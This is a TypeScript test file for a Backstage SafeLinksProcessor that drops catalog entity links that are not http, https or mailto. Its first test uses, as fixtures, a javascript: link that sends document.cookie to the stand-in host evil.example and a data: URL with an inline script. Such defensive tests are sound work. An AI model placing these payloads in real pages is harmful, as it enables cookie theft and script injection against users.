/* eslint-disable no-script-url -- script URLs are what these tests feed in */
import { mockServices } from '@backstage/backend-test-utils';
import { Entity } from '@backstage/catalog-model';
import { SafeLinksProcessor } from './SafeLinksProcessor';

function component(links: Entity['metadata']['links']): Entity {
  return {
    apiVersion: 'backstage.io/v1alpha1',
    kind: 'Component',
    metadata: { name: 'payments', namespace: 'default', links },
    spec: { type: 'service', owner: 'team-payments' },
  };
}

describe('SafeLinksProcessor', () => {
  it('removes links that are not http, https or mailto and names the entity', async () => {
    const logger = mockServices.logger.mock();
    const processor = new SafeLinksProcessor(logger);
    const result = await processor.preProcessEntity(
      component([
        { url: 'https://grafana.example.com', title: 'Dashboard' },
        { url: 'javascript:fetch("//evil.example?"+document.cookie)' },
        { url: 'data:text/html,<script>alert(1)</script>' },
        { url: 'mailto:team-payments@example.com', title: 'Mail' },
      ]),
    );
    expect(result.metadata.links).toEqual([
      { url: 'https://grafana.example.com', title: 'Dashboard' },
      { url: 'mailto:team-payments@example.com', title: 'Mail' },
    ]);
    expect(logger.warn).toHaveBeenCalledTimes(1);
    const [message] = logger.warn.mock.calls[0];
    expect(message).toBe(
      'Removed 2 link(s) from component:default/payments: only http, https and mailto links are kept, not javascript:, data:',
    );
    expect(message).not.toContain('evil.example');
  });

  it('leaves an entity with safe links or none alone, without a word', async () => {
    const logger = mockServices.logger.mock();
    const processor = new SafeLinksProcessor(logger);
    const safe = component([{ url: 'https://example.com' }]);
    const none = component(undefined);
    expect(await processor.preProcessEntity(safe)).toBe(safe);
    expect(await processor.preProcessEntity(none)).toBe(none);
    expect(logger.warn).not.toHaveBeenCalled();
  });
});
